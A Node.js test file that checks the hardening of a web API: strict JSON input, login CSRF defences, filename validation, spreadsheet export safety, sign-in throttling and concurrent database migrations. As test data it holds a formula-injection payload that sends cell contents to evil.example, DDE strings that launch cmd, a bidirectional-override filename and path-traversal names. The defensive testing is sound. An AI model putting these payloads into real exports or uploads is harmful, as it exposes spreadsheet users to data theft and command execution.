// Hardening (issue 12): what testing as an attacker and an operator found, and the classes behind
// it. Each block names the defect it guards against; every refusal is checked to change nothing.
//
// - strict input: a repeated JSON key is 400, a body that is not sent as JSON is 415 on every
//   route that takes one, null where a field cannot be cleared is 422 naming the field;
// - login CSRF: sign-in and invitation acceptance refuse text/plain bodies and cross-site pages;
// - document names: control and hidden characters refused, Content-Disposition per RFC 6266;
// - exports: formulas neutralised in CSV (read back with Python's csv module) and text stored as
//   text in .xlsx (read back with openpyxl);
// - sign-in bursts: the hashing pool answers 503 with Retry-After past its queue, reads go on;
// - two nodes starting at once on an empty PostgreSQL database (PostgreSQL only).

import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import YAML from 'yaml';
import { buildWorld, uniq, PASSWORD } from '../support/world.mjs';
import { API, Browser, expectProblem, expectStatus, expectValidation, listAll } from '../support/client.mjs';
import { NO_SUCH_ID, day } from '../support/plan.mjs';
import { PYTHON, gov, makeCommittee, postOk } from '../support/governance.mjs';
import { agr, createAgreement, createObligation, upload, uploadOk, makePdf, readXlsx } from '../support/agreements.mjs';
import { BIN, DB_KIND, REPO_ROOT, startServer } from '../support/server.mjs';
import { clusterForThisProcess, createDatabase, dropDatabase } from '../support/pg.mjs';


/** Parses CSV text with Python's csv module (a real, independent reader). */
function pythonCsv(text) {
  const script = 'import csv, io, json, sys\n'
    + 'print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))';
  const r = spawnSync(PYTHON, ['-c', script], { input: text, encoding: 'utf8', timeout: 60_000 });
  assert.equal(r.status, 0, `python csv: ${r.stderr}`);
  return JSON.parse(r.stdout);
}

describe('hardening', () => {
  let world;
  let server;
  let id;

  before(async () => {
    world = await buildWorld();
    server = world.server;
    id = world.alliance.id;
  });
  after(async () => { await world?.stop(); });

  const audit = () => server.count('audit_events');

  describe('strict input', () => {
    it('a repeated key in a JSON body is 400 and changes nothing, at any depth', async () => {
      const before = await audit();
      const user = world.person('phMember');
      const admin = world.as('phManager');
      const cur = await admin.get(`${API}/users/${user.id}`);
      expectStatus(cur, 200);
      let res = await admin.request('PATCH', `${API}/users/${user.id}`, {
        raw: '{"active":false,"active":true}', ifMatch: cur.body.version });
      expectProblem(res, 400, 'malformed');
      assert.match(res.body.detail, /repeats the key "active"/);
      const body = world.allianceBody();
      const text = JSON.stringify(body).replace('"statement":', '"statement":"first","statement":');
      res = await admin.request('POST', `${API}/alliances`, { raw: text });
      expectProblem(res, 400, 'malformed');
      res = await world.anon().request('POST', `${API}/auth/login`, {
        raw: `{"email":"${user.email}","password":"wrong","password":"${PASSWORD}"}` });
      expectProblem(res, 400, 'malformed');
      assert.equal(res.headers.getSetCookie().length, 0, 'no session for a body two readers would read apart');
      const after = await admin.get(`${API}/users/${user.id}`);
      assert.equal(after.body.active, true);
      assert.equal(after.body.version, cur.body.version);
      assert.equal(await audit(), before, 'nothing audited');
    });

    it('null where a field cannot be cleared is 422 naming the field; a clearable field clears', async () => {
      const admin = world.as('phManager');
      const user = world.person('phMember');
      const cur = await admin.get(`${API}/users/${user.id}`);
      const before = await audit();
      let res = await admin.patch(`${API}/users/${user.id}`, { active: null }, { ifMatch: cur.body.version });
      expectValidation(res, 'active');
      assert.match(res.body.errors[0].message, /must not be null/);
      const alliance = await world.getAlliance(id);
      res = await admin.patch(`${API}/alliances/${id}`, { name: null }, { ifMatch: alliance.version });
      expectValidation(res, 'name');
      const org = (await admin.get(`${API}/organizations/${world.orgIds.helix}`)).body;
      res = await admin.patch(`${API}/organizations/${org.id}`, { name: null, type: null }, { ifMatch: org.version });
      expectValidation(res, 'name', 'type');
      assert.equal(await audit(), before, 'nothing audited');
      assert.equal((await admin.get(`${API}/users/${user.id}`)).body.version, cur.body.version);
      // A field whose schema allows null: null clears it.
      res = await admin.patch(`${API}/organizations/${org.id}`, { website: 'https://helix.example' }, { ifMatch: org.version });
      expectStatus(res, 200);
      res = await admin.patch(`${API}/organizations/${org.id}`, { website: null }, { ifMatch: res.body.version });
      expectStatus(res, 200);
      assert.equal(res.body.website, null);
    });

    it('every route that takes a JSON body answers 415 to any other media type, changing nothing', async () => {
      const doc = YAML.parse(fs.readFileSync(path.join(REPO_ROOT, 'docs', 'openapi.yaml'), 'utf8'));
      const admin = world.as('phManager');
      const before = await audit();
      let checked = 0;
      for (const [pattern, ops] of Object.entries(doc.paths)) {
        for (const method of ['post', 'put', 'patch']) {
          const op = ops[method];
          if (!op) continue;
          const json = op.requestBody?.content?.['application/json'];
          if (!json) continue;  // raw uploads and bodiless actions
          const p = pattern.replace(/\{[^}]+\}/g, NO_SUCH_ID).replace(/^\/api\/v1\//, '');
          for (const contentType of ['text/plain', 'application/x-www-form-urlencoded']) {
            const res = await admin.request(method.toUpperCase(), p, { raw: '{"name":"x"}', contentType, ifMatch: 1 });
            expectProblem(res, 415, 'unsupported-media-type');
          }
          checked++;
        }
      }
      assert.ok(checked >= 60, `the document lists the JSON routes (${checked})`);
      assert.equal(await audit(), before, 'nothing audited');
    });
    it('null is taken exactly where the document allows it, and refused naming the field everywhere else', async () => {
      const doc = YAML.parse(fs.readFileSync(path.join(REPO_ROOT, 'docs', 'openapi.yaml'), 'utf8'));
      const resolve = (schema) => {
        let s = schema;
        for (let i = 0; s && s.$ref && i < 10; i++) s = s.$ref.split('/').slice(1).reduce((o, k) => o[k], doc);
        return s || {};
      };
      const nullable = (schema) => {
        const s = resolve(schema);
        if ([].concat(s.type ?? []).includes('null')) return true;
        return [...(s.oneOf ?? []), ...(s.anyOf ?? [])].some(nullable);
      };
      const admin = world.as('phManager');
      const alliance = world.alliance.id;
      const wrong = [];
      let checked = 0;
      for (const [pattern, ops] of Object.entries(doc.paths)) {
        for (const method of ['post', 'put', 'patch']) {
          const body = ops[method]?.requestBody?.content?.['application/json']?.schema;
          if (!body) continue;
          const props = resolve(body).properties ?? {};
          const p = pattern.replace('{alliance_id}', alliance).replace('{id}', pattern.startsWith('/api/v1/alliances/{id}') ? alliance : NO_SUCH_ID)
            .replace(/\{[^}]+\}/g, NO_SUCH_ID).replace(/^\/api\/v1\//, '');
          for (const [name, schema] of Object.entries(props)) {
            const res = await admin.request(method.toUpperCase(), p, { body: { [name]: null }, ifMatch: 1 });
            if (res.status !== 422 || !Array.isArray(res.body?.errors)) continue;  // refused before the body was read
            checked++;
            const refused = res.body.errors.some((e) => e.field === name && e.message === 'must not be null');
            const named = res.body.errors.some((e) => e.field === name || e.field.startsWith(`${name}.`) || e.field.startsWith(`${name}[`));
            if (nullable(schema) && refused) wrong.push(`${method.toUpperCase()} ${pattern} ${name}: documented nullable, refused`);
            if (!nullable(schema) && !named) wrong.push(`${method.toUpperCase()} ${pattern} ${name}: not nullable, null passed silently`);
          }
        }
      }
      assert.ok(checked >= 100, `enough fields reached the body reader (${checked})`);
      assert.deepEqual(wrong, []);
    });
  });

  describe('login CSRF', () => {
    const LOGIN = `${API}/auth/login`;
    const attackerBody = () => JSON.stringify({ email: world.person('outsider').email, password: `${PASSWORD}` });

    it('a text/plain sign-in (what a cross-site form sends) is 415 and sets no cookie', async () => {
      for (const contentType of ['text/plain', 'text/plain; charset=utf-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
        const victim = world.anon('victim');
        const res = await victim.request('POST', LOGIN, { raw: attackerBody(), contentType });
        expectProblem(res, 415, 'unsupported-media-type');
        assert.equal(res.headers.getSetCookie().length, 0, `${contentType}: no session cookie`);
      }
    });

    it('a sign-in from another site is 403 whatever its media type; the same site signs in', async () => {
      const cases = [
        { origin: 'https://evil.example' },
        { origin: 'null' },
        { 'sec-fetch-site': 'cross-site' },
        { 'sec-fetch-site': 'cross-site', origin: world.baseUrl },
      ];
      for (const headers of cases) {
        const res = await world.anon().request('POST', LOGIN, { raw: attackerBody(), headers });
        expectProblem(res, 403, 'cross-site');
        assert.equal(res.headers.getSetCookie().length, 0, `${JSON.stringify(headers)}: no session cookie`);
      }
      const same = await world.anon().request('POST', LOGIN, {
        raw: attackerBody(), headers: { origin: world.baseUrl, 'sec-fetch-site': 'same-origin' } });
      expectStatus(same, 200);
      assert.equal(same.headers.getSetCookie().length, 1);
    });

    it('invitation acceptance refuses text/plain and other sites, and the invitation stays usable', async () => {
      const email = `${uniq('invitee')}@nimbus.example`.toLowerCase();
      const inv = await world.as('nbManager').post(`${API}/invitations`, {
        email, name: 'Ines Invitee', organization_id: world.orgIds.nimbus, alliance_id: id, alliance_role: 'member' });
      expectStatus(inv, 201);
      const token = inv.body.token;
      const body = JSON.stringify({ token, password: 'Quiet-Harbour-5531!' });
      let res = await world.anon().request('POST', `${API}/invitations/accept`, { raw: body, contentType: 'text/plain' });
      expectProblem(res, 415, 'unsupported-media-type');
      res = await world.anon().request('POST', `${API}/invitations/accept`, { raw: body, headers: { origin: 'https://evil.example' } });
      expectProblem(res, 403, 'cross-site');
      res = await world.anon().request('POST', `${API}/invitations/accept`, { raw: body, headers: { 'sec-fetch-site': 'cross-site' } });
      expectProblem(res, 403, 'cross-site');
      res = await world.anon().request('POST', `${API}/invitations/accept`, { raw: body, headers: { origin: world.baseUrl } });
      expectStatus(res, 200);
    });

    it('a signed-in change from another site is refused even with the right CSRF token', async () => {
      const before = await audit();
      const res = await world.as('phManager').post(`alliances/${id}/notes`,
        { title: 'From elsewhere', body: 'x', visibility: 'alliance' }, { headers: { origin: 'https://evil.example' } });
      expectProblem(res, 403, 'cross-site');
      assert.equal(await audit(), before);
    });
  });

  describe('document names and downloads', () => {
    let agreement;
    before(async () => {
      agreement = await createAgreement(world, 'phManager', id, { title: uniq('Named documents agreement') });
    });
    const docs = () => listAll(world.as('phManager'), agr(id).documents(agreement));

    it('a name with a control, bidirectional or invisible character is 422 and stores nothing', async () => {
      const before = { docs: (await docs()).length, audit: await audit() };
      for (const name of ['a\u0000.pdf', 'a\u0001.pdf', 'a\u001b.pdf', 'a\u007f.pdf', 'a\t.pdf', 'a\u0085.pdf',
        'invoice\u202Efdp.pdf', 'zero\u200Bwidth.pdf', 'a/b.pdf', '..', ' lead.pdf']) {
        const res = await upload(world, 'phManager', id, agreement, name, makePdf(), { contentType: 'application/pdf' });
        expectValidation(res, 'name');
      }
      assert.equal((await docs()).length, before.docs);
      assert.equal(await audit(), before.audit);
    });

    it('a download names the file per RFC 6266: an ASCII fallback and the exact UTF-8 name', async () => {
      const name = 'Vertrag Müller – 東京 (signed).pdf';
      const bytes = makePdf('Vertrag');
      const d = await uploadOk(world, 'phManager', id, agreement, name, bytes, { contentType: 'application/pdf' });
      const res = await world.as('nbMember').get(agr(id).content(agreement, d), { headers: { accept: '*/*' } });
      expectStatus(res, 200);
      const cd = res.headers.get('content-disposition');
      assert.match(cd, /^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''[A-Za-z0-9!#$&+\-.^_`|~%]+$/, cd);
      assert.equal(cd.match(/filename="([^"]*)"/)[1], 'Vertrag M_ller _ __ (signed).pdf');
      assert.equal(decodeURIComponent(cd.match(/filename\*=UTF-8''(.+)$/)[1]), name);
      assert.equal(Buffer.compare(res.bytes, bytes), 0);
    });
  });

  describe('exports', () => {
    const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const FORMULA_RATIONALE = "+cmd|' /C calc'!A0";

    it('the decision log CSV neutralises formulas for the other party, read back by Python', async () => {
      const g = gov(id);
      const jsc = await makeCommittee(world, { allianceId: id, name: uniq('Export JSC'), kind: 'joint_steering', seats: [
        ['phManager', 'chair'], ['nbManager', 'co_chair'],
      ] });
      await postOk(world, 'phManager', g.decisions, { committee_id: jsc.id, title: FORMULA_TITLE,
        decision_type: 'budget', description: '@SUM(1+1)*cmd|" /C calc"!A0', rationale: FORMULA_RATIONALE });
      await postOk(world, 'phManager', g.decisions, { committee_id: jsc.id, title: '-2+3 plain minus',
        decision_type: 'budget', description: 'x', rationale: '@risk: supplier' });
      const res = await world.as('nbMember').get(`${g.decisions}/export.csv`, { headers: { accept: 'text/csv' } });
      expectStatus(res, 200);
      const rows = pythonCsv(res.text);
      const header = rows[0];
      const title = header.indexOf('Title');
      const rationale = header.indexOf('Rationale');
      const formula = rows.find((r) => r[title].includes('HYPERLINK'));
      assert.equal(formula[title], `'${FORMULA_TITLE}`);
      assert.equal(formula[rationale], `'${FORMULA_RATIONALE}`);
      const minus = rows.find((r) => r[title].includes('plain minus'));
      assert.equal(minus[title], "'-2+3 plain minus");
      assert.equal(minus[rationale], "'@risk: supplier");
      for (const row of rows.slice(1)) {
        for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `no cell starts a formula: ${JSON.stringify(cell)}`);
      }
      assert.match(res.headers.get('content-disposition'), /^attachment; filename="decision-log\.csv"$/);
    });

    it('the compliance workbook stores a formula-like title as text, never as a formula', async () => {
      const agreement = await createAgreement(world, 'phManager', id, { title: uniq('=SUM(A1:A9) agreement') });
      await createObligation(world, 'phManager', id, agreement, { title: FORMULA_TITLE, due_on: day(-3) });
      const res = await world.as('nbManager').get(agr(id).complianceExport(), { headers: { accept: '*/*' } });
      expectStatus(res, 200);
      const book = readXlsx(res.bytes);
      const cells = book.sheets.Obligations.flat();
      assert.ok(cells.includes(FORMULA_TITLE), 'the title reads back exactly as typed');
      const types = spawnSync(PYTHON, ['-c', [
        'import io, sys, json, openpyxl',
        'wb = openpyxl.load_workbook(io.BytesIO(sys.stdin.buffer.read()))',
        'print(json.dumps(sorted({c.data_type for ws in wb for row in ws.iter_rows() for c in row if c.value is not None})))',
      ].join('\n')], { input: res.bytes, encoding: 'utf8' });
      assert.equal(types.status, 0, types.stderr);
      assert.ok(!JSON.parse(types.stdout).includes('f'), `no formula cell: ${types.stdout}`);
    });
  });
});

describe('sign-in bursts', () => {
  let server;
  const email = 'burst@helix.example';
  before(async () => {
    server = await startServer({
      args: ['--hash-threads', '1', '--hash-queue', '2'],
      setup: (ctx) => { ctx.createUser({ orgId: ctx.createOrg('Burst Pharma', 'pharma'), email, name: 'Bea Burst', password: PASSWORD }); },
    });
  });
  after(async () => { await server?.stop(); });

  it('past the hashing queue a sign-in is 503 with Retry-After, and reads keep being served', async () => {
    const reader = new Browser(server.baseUrl, 'reader');
    await reader.signIn(email, PASSWORD);
    let reading = true;
    let reads = 0;
    const readLoop = (async () => {
      while (reading) {
        expectStatus(await reader.get(`${API}/me`), 200);
        reads++;
      }
    })();
    const answers = await Promise.all(Array.from({ length: 24 }, () => new Browser(server.baseUrl).login(email, PASSWORD)));
    reading = false;
    await readLoop;
    const ok = answers.filter((r) => r.status === 200);
    const busy = answers.filter((r) => r.status === 503);
    assert.equal(ok.length + busy.length, answers.length, `only 200 or 503: ${answers.map((r) => r.status)}`);
    assert.ok(ok.length >= 1, 'some sign-ins went through');
    assert.ok(busy.length >= 1, `the queue limit turned some away: ${answers.map((r) => r.status)}`);
    for (const r of busy) {
      expectProblem(r, 503, 'unavailable');
      assert.equal(r.headers.get('retry-after'), '1');
      assert.equal(r.headers.getSetCookie().length, 0);
    }
    assert.ok(reads >= 1, 'reads were served during the burst');
    // Once the burst is over, signing in works again.
    await new Browser(server.baseUrl).signIn(email, PASSWORD);
  });
});

describe('two nodes starting at once on an empty database', { skip: DB_KIND !== 'postgresql' && 'PostgreSQL only' }, () => {
  const ROUNDS = 10;
  const NODES = 4;

  const run = (args) => new Promise((resolve) => {
    const child = spawn(BIN, args, { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (c) => { out += c; });
    child.stderr.on('data', (c) => { out += c; });
    child.on('exit', (code) => resolve({ code, out }));
  });

  /** Starts `serve`, resolves once it has answered /readyz (then stops it), or on its exit. */
  const serveUntilReady = (url) => new Promise((resolve) => {
    const child = spawn(BIN, ['serve', '--database', url, '--port', '0', '--bind', '127.0.0.1',
      '--log-level', 'info', '--access-log', 'false', '--jobs-interval-s', '0'], { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let done = false;
    const finish = (result) => { if (!done) { done = true; resolve(result); } };
    const onData = async (c) => {
      out += c;
      const m = out.match(/listening on http:\/\/[^:\s]+:(\d+)/);
      if (m && !child.polling) {
        child.polling = true;
        const port = m[1];
        for (let i = 0; i < 200 && !done; i++) {
          try {
            const res = await fetch(`http://127.0.0.1:${port}/readyz`);
            if (res.status === 200) { child.kill('SIGTERM'); break; }
          } catch { /* not yet */ }
          await new Promise((r) => setTimeout(r, 50));
        }
      }
    };
    child.stdout.on('data', onData);
    child.stderr.on('data', onData);
    child.on('exit', (code, signal) => finish({ code, signal, out }));
    setTimeout(() => { child.kill('SIGKILL'); }, 30_000).unref();
  });

  for (const command of ['migrate', 'serve']) {
    it(`${NODES} × ${command}, ${ROUNDS} rounds: every node succeeds and the schema is complete`, async () => {
      const cluster = await clusterForThisProcess();
      for (let round = 0; round < ROUNDS; round++) {
        const name = `ns_race_${command}_${process.pid}_${round}_${Math.random().toString(36).slice(2, 8)}`;
        createDatabase(cluster, name);
        const url = `postgresql://postgres@${cluster.host}:${cluster.port}/${name}`;
        try {
          const results = await Promise.all(Array.from({ length: NODES }, () => (command === 'migrate'
            ? run(['migrate', '--database', url]) : serveUntilReady(url))));
          for (const r of results) {
            assert.equal(r.code, 0, `round ${round}: a node exited ${r.code} (${r.signal ?? ''}):\n${r.out.slice(-2000)}`);
          }
          const check = spawnSync(BIN, ['migrate', '--database', url], { encoding: 'utf8' });
          assert.equal(check.status, 0, check.stderr);
        } finally {
          dropDatabase(cluster, name);
        }
      }
    });
  }
});
